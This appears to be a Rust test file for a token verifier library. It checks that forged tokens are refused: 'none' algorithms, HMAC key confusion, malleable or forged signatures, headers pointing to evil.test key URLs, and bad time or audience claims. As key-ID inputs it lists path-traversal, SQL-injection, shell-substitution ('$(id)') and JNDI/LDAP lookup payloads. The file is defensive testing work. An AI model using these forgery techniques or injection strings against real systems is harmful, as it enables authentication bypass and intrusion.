//! The attacks on tokens that can be told offline, each by name, each with the code of its refusal.

mod algorithm {
    use aws_lc_rs::hmac;
    use intended_token::{Alg, Jwk, JwkError, JwkSet, KeySet, TokenSigner as _, base64url};

    use crate::fixture::{ACCEPTED, ALGS, Check, bytes, code, cut, forge, header, key, payload, resigned, set, token};

    #[test]
    fn nothing_is_wrong_with_the_token_that_the_attacks_start_from() {
        for alg in ALGS {
            assert_eq!(code(&token(alg)), ACCEPTED, "{alg:?}");
        }
    }

    #[test]
    fn no_spelling_of_the_algorithm_none_is_accepted() {
        let key = key(Alg::EdDSA);
        for none in ["none", "None", "NONE", "nOnE", "NonE", " none", "none ", "none\\u0000", "\\u006eone", ""] {
            let header = header(none, key.kid());
            let signed = forge(&header, &payload(), key);
            assert_eq!(code(&signed), "token.algorithm", "{none}, under a signature that is right");
            let (message, _) = cut(&signed);
            assert_eq!(code(&resigned(message, &[0])), "token.algorithm", "{none}, under some signature");
            assert_eq!(code(&format!("{message}.")), "token.malformed", "{none}, under no signature");
            assert_eq!(code(message), "token.malformed", "{none}, in two parts");
        }
    }

    #[test]
    fn an_algorithm_that_is_missing_or_no_text_is_refused() {
        let kid = key(Alg::EdDSA).kid();
        for alg in ["", r#""alg":null,"#, r#""alg":0,"#, r#""alg":false,"#, r#""alg":["EdDSA"],"#, r#""alg":{},"#] {
            let header = format!(r#"{{{alg}"kid":"{kid}","typ":"authority+jwt"}}"#);
            assert_eq!(code(&forge(&header, &payload(), key(Alg::EdDSA))), "token.algorithm", "{header}");
        }
    }

    #[test]
    fn an_algorithm_outside_the_three_is_refused_even_if_the_key_could_do_it() {
        for (alg, others) in [
            (Alg::EdDSA, &["eddsa", "EDDSA", "Ed25519", "Ed448", "EdDSA "][..]),
            (Alg::Es256, &["es256", "ES256K", "ES384", "ES512", "ECDSA"]),
            (Alg::Rs256, &["rs256", "RS384", "RS512", "RS1", "PS256", "PS512", "RSA-OAEP"]),
        ] {
            for other in others {
                let token = forge(&header(other, key(alg).kid()), &payload(), key(alg));
                assert_eq!(code(&token), "token.algorithm", "{other}");
            }
        }
    }

    #[test]
    fn a_public_key_used_as_a_shared_secret_signs_nothing() {
        for alg in ALGS {
            let jwk = &key(alg).jwk;
            let mut secrets = vec![Vec::new(), serde_json::to_vec(jwk).unwrap(), jwk.kid.clone().into_bytes()];
            for member in [&jwk.x, &jwk.y, &jwk.n].into_iter().flatten() {
                secrets.extend([bytes(member), member.clone().into_bytes()]);
            }
            for secret in secrets {
                for hs in ["HS256", "HS384", "HS512"] {
                    let token = forge(&header(hs, &jwk.kid), &payload(), key(alg));
                    let (message, _) = cut(&token);
                    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), message.as_bytes());
                    assert_eq!(code(&resigned(message, tag.as_ref())), "token.algorithm", "{hs} for {alg:?}");
                }
                // The same tag, passed off as a signature.
                let token = token(alg);
                let (message, _) = cut(&token);
                let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), message.as_bytes());
                assert_eq!(code(&resigned(message, tag.as_ref())), "token.signature", "{alg:?}");
            }
        }
    }

    #[test]
    fn a_shared_secret_is_no_key_of_a_set() {
        for jwk in [
            r#"{"kty":"oct","alg":"HS256","kid":"k","k":"AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow"}"#,
            r#"{"kty":"oct","alg":"none","kid":"k"}"#,
        ] {
            assert!(serde_json::from_str::<Jwk>(jwk).is_err(), "{jwk}");
        }
        let oct: Jwk = serde_json::from_str(r#"{"kty":"oct","alg":"EdDSA","kid":"k","k":"AAAA"}"#).unwrap();
        assert_eq!(KeySet::from_jwks(&JwkSet { keys: vec![oct] }).unwrap_err(), JwkError::Shape("k".to_owned()));
    }

    #[test]
    fn a_token_that_names_another_algorithm_than_its_key_is_refused() {
        for named in ALGS {
            for pinned in ALGS.into_iter().filter(|p| *p != named) {
                let header = header(named.as_str(), key(pinned).kid());
                for signer in ALGS {
                    let token = forge(&header, &payload(), key(signer));
                    assert_eq!(code(&token), "token.algorithm", "{named:?} over {pinned:?}, signed by {signer:?}");
                }
            }
        }
    }

    #[test]
    fn a_key_that_claims_another_algorithm_than_its_type_is_refused() {
        for alg in ALGS {
            for of in ALGS.into_iter().filter(|o| *o != alg) {
                let jwk = Jwk { alg, ..key(of).jwk.clone() };
                let kid = jwk.kid.clone();
                let refused = KeySet::from_jwks(&JwkSet { keys: vec![jwk] }).unwrap_err();
                assert_eq!(refused, JwkError::Shape(kid), "{alg:?} with the key of {of:?}");
            }
        }
    }

    #[test]
    fn a_key_that_is_too_small_cut_off_of_another_curve_or_not_for_signing_is_refused() {
        let (ed, ec, rsa) = (&key(Alg::EdDSA).jwk, &key(Alg::Es256).jwk, &key(Alg::Rs256).jwk);
        let some = |text: &str| Some(text.to_owned());
        for jwk in [
            Jwk { crv: some("X25519"), ..ed.clone() },
            Jwk { crv: some("Ed448"), ..ed.clone() },
            Jwk { crv: None, ..ed.clone() },
            Jwk { x: None, ..ed.clone() },
            Jwk { x: some(""), ..ed.clone() },
            Jwk { x: some(&base64url(&[9; 31])), ..ed.clone() },
            Jwk { x: some(&base64url(&[9; 33])), ..ed.clone() },
            Jwk { x: ed.x.as_ref().map(|x| format!("{x}=")), ..ed.clone() },
            Jwk { usage: some("enc"), ..ed.clone() },
            Jwk { crv: some("P-384"), ..ec.clone() },
            Jwk { crv: some("secp256k1"), ..ec.clone() },
            Jwk { y: None, ..ec.clone() },
            Jwk { y: some(&base64url(&[9; 31])), ..ec.clone() },
            Jwk { n: some(&base64url(&[0xff; 128])), ..rsa.clone() },
            Jwk { n: some(&base64url(&[0xff; 255])), ..rsa.clone() },
            Jwk { e: None, ..rsa.clone() },
        ] {
            let kid = jwk.kid.clone();
            let refused = KeySet::from_jwks(&JwkSet { keys: vec![jwk.clone()] }).unwrap_err();
            assert_eq!(refused, JwkError::Shape(kid), "{jwk:?}");
        }
    }

    #[test]
    fn a_private_key_in_a_set_is_refused() {
        for alg in ALGS {
            let jwk = Jwk { d: Some("AAAA".to_owned()), ..key(alg).jwk.clone() };
            let kid = jwk.kid.clone();
            assert_eq!(KeySet::from_jwks(&JwkSet { keys: vec![jwk] }).unwrap_err(), JwkError::Private(kid));
        }
    }

    #[test]
    fn an_rsa_key_with_exponent_one_verifies_nothing() {
        // With e = 1 the padded digest is its own signature, and anyone can write it.
        let n = bytes(crate::fixture::RSA_N);
        let jwk = Jwk::rsa(&n, &[1]);
        let token = forge(&header("RS256", &jwk.kid), &payload(), key(Alg::Rs256));
        let (message, _) = cut(&token);
        let digest = intended_model::Digest::of(message.as_bytes());
        let info = [&bytes("MDEwDQYJYIZIAWUDBAIBBQAEIA")[..], digest.as_bytes()].concat();
        let filler = vec![0xff; n.len() - info.len() - 3];
        let forged = [&[0, 1][..], &filler, &[0], &info].concat();
        let keys = set([jwk]);
        assert_eq!(Check { keys: &keys, ..Check::default() }.code(&resigned(message, &forged)), "token.signature");
    }

    #[test]
    fn a_point_off_the_curve_verifies_nothing() {
        for point in [[&[4][..], &[0; 64]].concat(), [&[4][..], &[1; 64]].concat(), [&[4][..], &[0xff; 64]].concat()] {
            let jwk = Jwk::p256(&point).unwrap();
            let token = forge(&header("ES256", &jwk.kid), &payload(), key(Alg::Es256));
            let keys = set([jwk]);
            assert_eq!(Check { keys: &keys, ..Check::default() }.code(&token), "token.signature");
        }
    }
}

mod key_id {
    use intended_token::{Alg, Jwk, JwkError, JwkSet, KeySet, TokenSigner as _};

    use crate::fixture::{
        ALGS, Check, TestKey, code, forge, header, key, keys, payload, set, stranger, token, with_header,
    };

    #[test]
    fn a_key_id_that_climbs_a_path_or_speaks_another_language_is_unknown() {
        for kid in [
            "../../../../dev/null",
            "..\\\\..\\\\..\\\\windows\\\\win.ini",
            "/dev/null",
            "/proc/self/environ",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "file:///dev/null",
            "https://evil.test/jwks.json",
            "' OR '1'='1",
            "x' UNION SELECT 'secret' --",
            "| /bin/true",
            "$(id)",
            "${jndi:ldap://evil.test/a}",
            "*",
            "\\u0000",
            "__proto__",
            "constructor",
        ] {
            assert_eq!(code(&with_header(&header("EdDSA", kid))), "token.key_unknown", "{kid}");
        }
    }

    #[test]
    fn a_key_id_almost_right_is_unknown() {
        let kid = key(Alg::EdDSA).kid();
        for other in [
            format!("{kid} "),
            format!(" {kid}"),
            format!("{kid}="),
            format!("{kid}\\u0000"),
            format!("./{kid}"),
            kid.to_lowercase(),
            kid.to_uppercase(),
            kid[..kid.len() - 1].to_owned(),
            kid[1..].to_owned(),
        ] {
            assert_eq!(code(&with_header(&header("EdDSA", &other))), "token.key_unknown", "{other}");
        }
    }

    #[test]
    fn a_key_that_nobody_trusts_is_unknown() {
        let stranger = stranger();
        assert_eq!(code(&forge(&header("EdDSA", stranger.kid()), &payload(), &stranger)), "token.key_unknown");
        let none = set([]);
        for alg in ALGS {
            assert_eq!(Check { keys: &none, ..Check::default() }.code(&token(alg)), "token.key_unknown");
        }
    }

    #[test]
    fn a_key_id_that_is_missing_empty_or_no_text_is_refused() {
        // Even where a key has the empty id: it must not catch whatever names no key.
        let nameless = set([Jwk { kid: String::new(), ..key(Alg::EdDSA).jwk.clone() }]);
        for kid in ["", r#""kid":"","#, r#""kid":null,"#, r#""kid":0,"#, r#""kid":[],"#, r#""kid":{},"#] {
            let token = with_header(&format!(r#"{{"alg":"EdDSA",{kid}"typ":"authority+jwt"}}"#));
            for keys in [keys(), &nameless] {
                assert_eq!(Check { keys, ..Check::default() }.code(&token), "token.key_unknown", "{kid}");
            }
        }
    }

    #[test]
    fn a_key_id_named_twice_is_refused() {
        let (own, other) = (key(Alg::EdDSA).kid(), stranger().jwk.kid);
        for (first, second) in [(own, own), (own, &other), (&other, own)] {
            for name in ["kid", "\\u006bid"] {
                let header = format!(r#"{{"alg":"EdDSA","kid":"{first}","{name}":"{second}","typ":"authority+jwt"}}"#);
                assert_eq!(code(&with_header(&header)), "token.malformed", "{header}");
            }
        }
    }

    #[test]
    fn a_key_set_that_holds_an_id_twice_is_refused() {
        let own = key(Alg::EdDSA).jwk.clone();
        let posing = Jwk { kid: own.kid.clone(), ..stranger().jwk };
        let of_another_type = Jwk { kid: own.kid.clone(), ..key(Alg::Es256).jwk.clone() };
        for second in [own.clone(), posing, of_another_type] {
            let refused = KeySet::from_jwks(&JwkSet { keys: vec![own.clone(), second] }).unwrap_err();
            assert_eq!(refused, JwkError::Duplicate(own.kid.clone()));
        }
    }

    #[test]
    fn a_token_that_names_another_trusted_key_than_the_one_that_signed_is_refused() {
        let (a, b) = (TestKey::ed25519(&[1; 32]), TestKey::ed25519(&[2; 32]));
        let keys = set([a.jwk.clone(), b.jwk.clone()]);
        let token = forge(&header("EdDSA", a.kid()), &payload(), &b);
        assert_eq!(Check { keys: &keys, ..Check::default() }.code(&token), "token.signature");
    }

    #[test]
    fn a_token_of_a_retired_key_is_refused_by_that_name() {
        for alg in ALGS {
            let mut keys = keys().clone();
            keys.retire(key(alg).kid());
            let check = Check { keys: &keys, ..Check::default() };
            assert_eq!(check.code(&token(alg)), "token.key_retired", "{alg:?}");
            // Also when nothing else is right, and only for this key.
            let forged = forge(&header(alg.as_str(), key(alg).kid()), b"{}", &stranger());
            assert_eq!(check.code(&forged), "token.key_retired");
            for other in ALGS.into_iter().filter(|o| *o != alg) {
                assert_eq!(check.code(&token(other)), crate::fixture::ACCEPTED);
            }
        }
    }

    #[test]
    fn a_token_of_a_revoked_key_is_refused() {
        // A revoked key is gone from the set at once, without the grace of a retired one.
        let left = set([key(Alg::Es256).jwk.clone(), key(Alg::Rs256).jwk.clone()]);
        assert_eq!(Check { keys: &left, ..Check::default() }.code(&token(Alg::EdDSA)), "token.key_unknown");
    }
}

mod header {
    use intended_token::{Alg, TokenSigner as _, issue_revocation_list};
    use serde_json::json;

    use crate::fixture::{NOW, bytes, code, cut, forge, key, payload, stranger, token, with_header};

    fn with_member(member: &str) -> String {
        let kid = key(Alg::EdDSA).kid();
        format!(r#"{{"alg":"EdDSA","kid":"{kid}","typ":"authority+jwt",{member}}}"#)
    }

    #[test]
    fn a_key_that_the_token_brings_along_is_refused() {
        let stranger = stranger();
        let jwk = serde_json::to_string(&stranger.jwk).unwrap();
        for member in [
            &format!(r#""jwk":{jwk}"#),
            r#""jku":"https://evil.test/jwks.json""#,
            r#""jku":"https://intended.test/jwks.json""#,
            r#""x5u":"https://evil.test/chain.pem""#,
            r#""x5c":["MIIB"]"#,
            r#""x5t":"AAAA""#,
            r#""x5t#S256":"AAAA""#,
            r#""jwk":null"#,
            r#""jku":"""#,
        ] {
            let own = with_header(&with_member(member));
            assert_eq!(code(&own), "token.header", "{member}, signed by the trusted key");
            let posing = forge(&with_member(member), &payload(), &stranger);
            assert_eq!(code(&posing), "token.header", "{member}, signed by the key that it names");
            // As published attacks do it: the key is named by its own id.
            let header = format!(r#"{{"alg":"EdDSA","kid":"{}","typ":"authority+jwt",{member}}}"#, stranger.kid());
            assert_eq!(code(&forge(&header, &payload(), &stranger)), "token.header", "{member}");
        }
    }

    #[test]
    fn a_critical_extension_is_refused_whatever_it_is() {
        for member in [
            r#""crit":["https://evil.test/skip-checks"],"https://evil.test/skip-checks":true"#,
            r#""crit":["exp"],"exp":1"#,
            r#""crit":["b64"],"b64":false"#,
            r#""crit":["alg"]"#,
            r#""crit":["missing"]"#,
            r#""crit":[]"#,
            r#""crit":null"#,
            r#""crit":"typ""#,
        ] {
            assert_eq!(code(&with_header(&with_member(member))), "token.header", "{member}");
        }
    }

    #[test]
    fn a_header_member_outside_the_three_is_refused() {
        for member in
            [r#""b64":false"#, r#""cty":"JWT""#, r#""zip":"DEF""#, r#""enc":"A256GCM""#, r#""nonce":"x""#, r#""":1"#]
        {
            assert_eq!(code(&with_header(&with_member(member))), "token.header", "{member}");
        }
    }

    #[test]
    fn a_token_of_another_type_is_refused() {
        let kid = key(Alg::EdDSA).kid();
        for typ in [
            "",
            r#","typ":null"#,
            r#","typ":1"#,
            r#","typ":["authority+jwt"]"#,
            r#","typ":"""#,
            r#","typ":"JWT""#,
            r#","typ":"at+jwt""#,
            r#","typ":"secevent+jwt""#,
            r#","typ":"Authority+JWT""#,
            r#","typ":"authority+jwt ""#,
            r#","typ":"application/authority+jwt""#,
            r#","typ":"authority-revocations+jwt""#,
        ] {
            let header = format!(r#"{{"alg":"EdDSA","kid":"{kid}"{typ}}}"#);
            assert_eq!(code(&with_header(&header)), "token.type", "{header}");
        }
        let list = issue_revocation_list("https://intended.test", "acme", NOW, 1, &[], key(Alg::EdDSA)).unwrap();
        assert_eq!(code(&list), "token.type");
    }

    #[test]
    fn a_header_that_is_not_one_strict_json_object_is_refused() {
        let right = with_member(r#""x":1"#).replace(r#","x":1"#, "");
        assert_eq!(code(&with_header(&right)), crate::fixture::ACCEPTED);
        for header in [
            "null".to_owned(),
            "[]".to_owned(),
            r#""authority+jwt""#.to_owned(),
            format!("[{right}]"),
            format!("\u{feff}{right}"),
            format!("{right}{right}"),
            format!("{right}\0"),
            right.replace('"', "'"),
            right.replace("}", ",}"),
            right.replace("}", "/**/}"),
            right.replace("}", r#","alg":"EdDSA"}"#),
            right.replace("}", r#","alg":"none"}"#),
            right.replace("}", r#","typ":"authority+jwt"}"#),
            right.replace("EdDSA", "\\ud800"),
        ] {
            assert_eq!(code(&with_header(&header)), "token.malformed", "{header}");
        }
        let token = token(Alg::EdDSA);
        let (message, signature) = token.rsplit_once('.').unwrap();
        let payload = message.split_once('.').unwrap().1;
        for not_text in ["gICA", "_____w"] {
            assert!(String::from_utf8(bytes(not_text)).is_err());
            assert_eq!(code(&format!("{not_text}.{payload}.{signature}")), "token.malformed");
        }
    }

    #[test]
    fn a_token_that_is_not_three_parts_is_refused() {
        let token = token(Alg::EdDSA);
        let parts: Vec<_> = token.split('.').collect();
        let (message, _) = cut(&token);
        for other in [
            String::new(),
            ".".to_owned(),
            "..".to_owned(),
            "...".to_owned(),
            parts[0].to_owned(),
            message.to_owned(),
            format!("{token}."),
            format!(".{token}"),
            format!("{token}.{}", parts[2]),
            format!("{}..{}", parts[0], parts[2]),
            format!(".{}.{}", parts[1], parts[2]),
            format!("Bearer {token}"),
            format!("{token}~"),
            json!({ "payload": parts[1], "protected": parts[0], "signature": parts[2] }).to_string(),
        ] {
            assert_eq!(code(&other), "token.malformed", "{other}");
        }
    }
}

mod times {
    use intended_model::Timestamp;
    use intended_token::{Alg, Claims, SignError, issue};
    use serde_json::{Value, json};

    use crate::fixture::{ACCEPTED, Check, NOW, at, claims, code, key, token, with, with_claims, with_text, without};

    const TIMES: [&str; 3] = ["iat", "nbf", "exp"];

    fn lived(iat: i64, nbf: i64, exp: i64) -> String {
        with_claims(|c| {
            c["iat"] = json!(iat);
            c["nbf"] = json!(nbf);
            c["exp"] = json!(exp);
        })
    }
    fn code_at(millis: i64) -> &'static str {
        Check { now: Timestamp::from_millis(millis), ..Check::default() }.code(&token(Alg::EdDSA))
    }

    #[test]
    fn a_time_that_is_missing_is_refused() {
        for time in TIMES {
            assert_eq!(code(&without(time)), "token.times", "{time}");
        }
    }

    #[test]
    fn a_time_that_is_no_number_is_refused() {
        for time in TIMES {
            for value in [
                Value::Null,
                json!(true),
                json!(NOW.to_string()),
                json!("2026-09-21T00:00:00Z"),
                json!([NOW]),
                json!({ "seconds": NOW }),
            ] {
                assert_eq!(code(&with(time, value.clone())), "token.times", "{time} {value}");
            }
        }
    }

    #[test]
    fn a_time_that_is_negative_is_refused() {
        for time in TIMES {
            for value in [-1, -NOW, -9_007_199_254_740_991] {
                assert_eq!(code(&with(time, json!(value))), "token.times", "{time} {value}");
            }
        }
    }

    #[test]
    fn a_time_that_is_a_fraction_is_refused() {
        for time in TIMES {
            for value in ["1790000000.5", "0.1", "1790000030.25", "1e-3"] {
                let from = format!(r#""{time}":{}"#, if time == "exp" { NOW + 60 } else { NOW });
                assert_eq!(code(&with_text(&from, &format!(r#""{time}":{value}"#))), "token.times", "{time} {value}");
            }
        }
    }

    #[test]
    fn a_whole_time_is_one_value_however_it_is_spelled() {
        // The reader's law: `1`, `1.0` and `1e0` are one number. What is signed decides nothing else.
        for spelled in ["1790000060.0", "179000006e1", "1.79000006E9"] {
            assert_eq!(code(&with_text(r#""exp":1790000060"#, &format!(r#""exp":{spelled}"#))), ACCEPTED, "{spelled}");
        }
    }

    #[test]
    fn a_time_that_no_double_holds_is_refused() {
        for time in TIMES {
            let from = format!(r#""{time}":{}"#, if time == "exp" { NOW + 60 } else { NOW });
            for value in [
                "9007199254740992",
                "9007199254740993",
                "-9007199254740993",
                "9223372036854775807",
                "9223372036854775808",
                "18446744073709551615",
                "340282366920938463463374607431768211456",
                "1e400",
                "-0",
                "1790000060.00000000000000000001",
                "01790000060",
                "+1790000060",
                "0x6ab0dc40",
                "NaN",
                "Infinity",
            ] {
                assert_eq!(code(&with_text(&from, &format!(r#""{time}":{value}"#))), "token.claims", "{time} {value}");
            }
        }
    }

    #[test]
    fn a_time_beyond_the_year_9999_is_refused() {
        for time in TIMES {
            for value in [253_402_300_800_i64, 1_790_000_060_000, 9_007_199_254_740_991] {
                assert_eq!(code(&with(time, json!(value))), "token.times", "{time} {value}");
            }
        }
    }

    #[test]
    fn a_token_that_would_live_longer_than_the_limit_is_refused() {
        assert_eq!(code(&lived(NOW, NOW, NOW + 300)), ACCEPTED);
        assert_eq!(code(&lived(NOW, NOW, NOW + 301)), "token.times");
        assert_eq!(code(&lived(NOW - 300, NOW, NOW + 60)), "token.times");
        assert_eq!(code(&lived(0, NOW, NOW + 60)), "token.times");
        assert_eq!(code(&lived(0, 0, 253_402_300_799)), "token.times");
        let long = Claims { exp: NOW + 301, ..claims() };
        assert_eq!(issue(&long, key(Alg::EdDSA)), Err(SignError::Ttl));
        let overflowing = Claims { iat: i64::MIN, exp: i64::MAX, ..claims() };
        assert_eq!(issue(&overflowing, key(Alg::EdDSA)), Err(SignError::Ttl));
    }

    #[test]
    fn times_in_the_wrong_order_are_refused() {
        for (iat, nbf, exp) in [
            (NOW, NOW, NOW),
            (NOW, NOW, NOW - 1),
            (NOW + 60, NOW, NOW + 60),
            (NOW, NOW - 1, NOW + 60),
            (NOW, 0, NOW + 60),
            (NOW, NOW + 60, NOW + 60),
            (NOW, NOW + 61, NOW + 60),
            (NOW, NOW + 5, NOW + 2),
        ] {
            assert_eq!(code(&lived(iat, nbf, exp)), "token.times", "{iat} {nbf} {exp}");
        }
    }

    #[test]
    fn a_token_from_the_future_is_not_valid_yet() {
        for ahead in [10, 3600, 1_000_000_000] {
            let from = NOW + ahead;
            assert_eq!(code(&lived(from, from, from + 60)), "token.not_yet_valid", "{ahead}");
        }
        assert_eq!(code(&lived(NOW, NOW + 30, NOW + 60)), "token.not_yet_valid");
    }

    #[test]
    fn a_token_is_valid_from_five_seconds_before_its_start_to_just_before_its_end() {
        for (millis, expected) in [
            (-1, "token.not_yet_valid"),
            (0, "token.not_yet_valid"),
            ((NOW - 5) * 1000 - 1, "token.not_yet_valid"),
            ((NOW - 5) * 1000, ACCEPTED),
            (NOW * 1000, ACCEPTED),
            ((NOW + 60) * 1000 - 1, ACCEPTED),
            ((NOW + 60) * 1000, "token.expired"),
            (Timestamp::MAX.as_millis(), "token.expired"),
        ] {
            assert_eq!(code_at(millis), expected, "{millis}");
        }
    }

    #[test]
    fn a_clock_at_the_ends_of_time_does_not_wrap() {
        for (now, expected) in [(i64::MIN, "token.not_yet_valid"), (i64::MAX, "token.expired")] {
            assert_eq!(code_at(now), expected);
        }
        assert_eq!(Check { now: at(0), ..Check::default() }.code(&lived(0, 0, 60)), ACCEPTED);
    }
}

mod addressee {
    use intended_token::Expectations;
    use serde_json::{Value, json};

    use crate::fixture::{ACCEPTED, Check, claims, code, expectations, with, without};

    /// Texts that a careless comparison takes for `text`.
    fn look_alikes(text: &str) -> Vec<String> {
        vec![
            String::new(),
            text[..text.len() - 1].to_owned(),
            text[1..].to_owned(),
            format!("{text}/"),
            format!("{text}x"),
            format!("{text}.evil.test"),
            format!("evil.test#{text}"),
            format!("{text} "),
            format!(" {text}"),
            format!("{text}\0"),
            format!("{text}\n"),
            format!("{text},{text}"),
            format!("{text}\u{200b}"),
            text.to_uppercase(),
            text.replacen('e', "\u{435}", 1).replacen('t', "\u{442}", 1),
            "*".to_owned(),
            ".*".to_owned(),
        ]
        .into_iter()
        .filter(|other| other != text)
        .collect()
    }

    fn not_texts(text: &str) -> [Value; 7] {
        [
            Value::Null,
            json!(0),
            json!(true),
            json!([]),
            json!([text]),
            json!([text, "https://evil.test"]),
            json!({ "0": text }),
        ]
    }

    #[test]
    fn a_token_without_an_audience_is_refused() {
        assert_eq!(code(&without("aud")), "token.audience");
    }

    #[test]
    fn a_token_whose_audience_is_a_list_or_no_text_is_refused() {
        for value in not_texts(&claims().aud) {
            assert_eq!(code(&with("aud", value.clone())), "token.audience", "{value}");
        }
    }

    #[test]
    fn a_token_for_an_audience_that_only_looks_like_this_one_is_refused() {
        for aud in look_alikes(&claims().aud) {
            assert_eq!(code(&with("aud", json!(aud))), "token.audience", "{aud:?}");
        }
    }

    #[test]
    fn a_token_of_another_issuer_tenant_or_environment_is_refused() {
        let c = claims();
        for (claim, own, expected) in
            [("iss", c.iss, "token.issuer"), ("tid", c.tid, "token.tenant"), ("env", c.env, "token.environment")]
        {
            for other in look_alikes(&own) {
                assert_eq!(code(&with(claim, json!(other))), expected, "{claim} {other:?}");
            }
        }
    }

    #[test]
    fn a_verifier_of_another_issuer_audience_tenant_or_environment_refuses_the_token() {
        let token = crate::fixture::token(intended_token::Alg::EdDSA);
        let own = expectations(&claims());
        let other = "other".to_owned();
        for (expect, expected) in [
            (Expectations { issuer: other.clone(), ..own.clone() }, "token.issuer"),
            (Expectations { audience: other.clone(), ..own.clone() }, "token.audience"),
            (Expectations { tenant: other.clone(), ..own.clone() }, "token.tenant"),
            (Expectations { environment: other, ..own.clone() }, "token.environment"),
            (Expectations { tenant: String::new(), ..own }, "token.tenant"),
        ] {
            assert_eq!(Check { expect: expect.clone(), ..Check::default() }.code(&token), expected, "{expect:?}");
        }
    }

    /// Whatever else is right about it. The claim and the tool say the same, or it is of no class.
    #[test]
    fn a_self_tests_token_is_refused_by_who_did_not_ask_for_one_and_no_other_is_taken_for_it() {
        use intended_model::{Class, synthetic};
        use intended_token::{Action, Binding, Claims, Refusal, Verifier, issue};

        let real = claims();
        let own = Action { tool: synthetic::NAME.to_owned(), ..real.action.clone() };
        let plain = (Class::Traffic, real.action.clone());
        let synthetic = (Class::Synthetic, own.clone());
        for (class, action) in [plain, synthetic, (Class::Synthetic, real.action.clone()), (Class::Traffic, own)] {
            let of = Claims { class, action: action.clone(), ..real.clone() };
            let token = issue(&of, crate::fixture::key(intended_token::Alg::EdDSA)).unwrap();
            let check = Check { binding: Binding::IntentHash(of.intent_hash), ..Check::default() };
            let verifier = Verifier { keys: check.keys, expect: check.expect.clone(), revocations: None };
            for asked in Class::ALL {
                let good = asked == class && class.is_synthetic() == (action.tool == synthetic::NAME);
                let verdict = verifier.verify_class(asked, &token, &check.binding, check.now).map(|a| a.claims);
                let expected = if good { Ok(of.clone()) } else { Err(Refusal::Class) };
                assert_eq!(verdict, expected, "{class} {} asked as {asked}", action.tool);
            }
            assert_eq!(check.code(&token) == ACCEPTED, class.is_traffic() && action == real.action);
        }
        for value in [json!("Synthetic"), json!("other"), json!(""), json!(null), json!(true), json!(["traffic"])] {
            assert_eq!(code(&with("class", value.clone())), "token.claims", "{value}");
        }
        assert_eq!(code(&with("class", json!("synthetic"))), "token.class");
    }

    #[test]
    fn a_token_without_an_issuer_tenant_or_environment_is_refused() {
        for claim in ["iss", "tid", "env"] {
            assert_eq!(code(&without(claim)), "token.claims", "{claim}");
            for value in not_texts("acme") {
                assert_eq!(code(&with(claim, value.clone())), "token.claims", "{claim} {value}");
            }
        }
    }
}

mod signature {
    use aws_lc_rs::signature::{RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256};
    use intended_token::{Alg, Claims, base64url, issue};

    use crate::fixture::{ACCEPTED, ALGS, Check, RSA_N, bytes, claims, code, cut, key, resigned, stranger, token};

    /// The order of P-256.
    const N: &str = "_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE";
    /// The order of Ed25519's group, big-endian.
    const L: &str = "EAAAAAAAAAAAAAAAAAAAABTe-d6i95zWWBJjGlz10-0";

    /// Big-endian, in as many bytes; `None` when it does not fit.
    fn add(a: &[u8], b: &[u8]) -> Option<Vec<u8>> {
        let (mut out, mut carry) = (a.to_vec(), 0);
        for (x, y) in out.iter_mut().zip(b).rev() {
            let sum = u16::from(*x) + u16::from(*y) + carry;
            *x = sum.to_be_bytes()[1];
            carry = sum >> 8;
        }
        (carry == 0).then_some(out)
    }
    fn subtract(a: &[u8], b: &[u8]) -> Vec<u8> {
        // a - b = not(not(a) + b)
        let not = |v: &[u8]| v.iter().map(|b| !b).collect::<Vec<_>>();
        not(&add(&not(a), b).unwrap())
    }
    fn reversed(bytes: &[u8]) -> Vec<u8> {
        bytes.iter().rev().copied().collect()
    }
    /// The algorithm's valid token, under other signatures.
    fn all_refused(alg: Alg, signatures: impl IntoIterator<Item = Vec<u8>>) {
        let token = token(alg);
        let (message, _) = cut(&token);
        for signature in signatures {
            assert_eq!(code(&resigned(message, &signature)), "token.signature", "{alg:?} {signature:?}");
        }
    }

    #[test]
    fn a_signature_cut_short_or_padded_is_refused() {
        for alg in ALGS {
            let token = token(alg);
            let (message, signature) = cut(&token);
            for length in 1..signature.len() {
                assert_eq!(code(&resigned(message, &signature[..length])), "token.signature", "{alg:?} {length}");
                assert_eq!(code(&resigned(message, &signature[length..])), "token.signature", "{alg:?} {length}");
            }
            for other in [
                [&signature[..], &[0]].concat(),
                [&[0], &signature[..]].concat(),
                [&signature[..], &signature[..]].concat(),
            ] {
                assert_eq!(code(&resigned(message, &other)), "token.signature", "{alg:?}");
            }
            assert_eq!(code(&format!("{message}.")), "token.malformed");
        }
    }

    #[test]
    fn a_signature_of_zeros_or_ones_is_refused() {
        for (alg, length) in [(Alg::EdDSA, 64), (Alg::Es256, 64), (Alg::Rs256, 256)] {
            let one = |at: usize| {
                let mut out = vec![0; length];
                out[at] = 1;
                out
            };
            all_refused(alg, [vec![0; length], vec![0xff; length], one(0), one(length - 1), one(length / 2 - 1)]);
        }
    }

    #[test]
    fn an_ed25519_signature_with_the_group_order_added_is_refused() {
        let token = token(Alg::EdDSA);
        let (message, signature) = cut(&token);
        let (r, s) = signature.split_at(32);
        let s = add(&reversed(s), &bytes(L)).unwrap();
        assert_eq!(code(&resigned(message, &[r, &reversed(&s)].concat())), "token.signature");
    }

    #[test]
    fn an_es256_signature_out_of_range_or_in_der_is_refused() {
        let token = token(Alg::Es256);
        let (message, signature) = cut(&token);
        let (r, s) = signature.split_at(32);
        let (n, zero) = (bytes(N), vec![0; 32]);
        let der_integer = |v: &[u8]| [&[2, 33, 0], v].concat();
        let (der_r, der_s) = (der_integer(r), der_integer(s));
        for other in [
            [r, &zero[..]].concat(),
            [&zero[..], s].concat(),
            [&n[..], s].concat(),
            [r, &n[..]].concat(),
            [&n[..], &n[..]].concat(),
            [s, r].concat(),
            [&[0x30, 70], &der_r[..], &der_s[..]].concat(),
        ] {
            assert_eq!(code(&resigned(message, &other)), "token.signature");
        }
    }

    #[test]
    fn an_es256_signature_turned_into_its_twin_is_still_the_same_token() {
        // Whoever has (r, s) can write (r, n - s), and ES256 (RFC 7518 section 3.4) does not say which
